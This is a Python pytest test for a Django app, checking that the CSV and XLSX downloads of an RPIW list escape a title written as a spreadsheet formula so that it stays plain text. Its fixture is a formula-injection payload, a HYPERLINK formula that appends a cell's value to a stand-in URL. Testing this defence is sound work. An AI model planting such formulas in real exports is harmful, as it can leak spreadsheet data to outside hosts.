"""A real page's CSV/XLSX download neutralises an RPIW title written to run as a formula."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from rpiw.models import Rpiw

pytestmark = pytest.mark.django_db

TITLE = '=HYPERLINK("http://x"&A1,"x")'


def test_the_rpiw_list_download_keeps_a_formula_title_as_text(client, kpo_user, rpiw):
    Rpiw.objects.filter(pk=rpiw.pk).update(title=TITLE)
    client.force_login(kpo_user)
    url = reverse("rpiw:rpiw-list")

    response = client.get(url + "?format=csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
    assert [row["Title"] for row in rows] == ["'" + TITLE]
    assert rows[0]["Measures"] == "0"  # numbers are not touched

    response = client.get(url + "?format=xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    headings = [cell.value for cell in sheet[1]]
    title = sheet.cell(row=2, column=headings.index("Title") + 1)
    assert title.value == "'" + TITLE and title.data_type == "s"
    assert sheet.cell(row=2, column=headings.index("Measures") + 1).value == 0
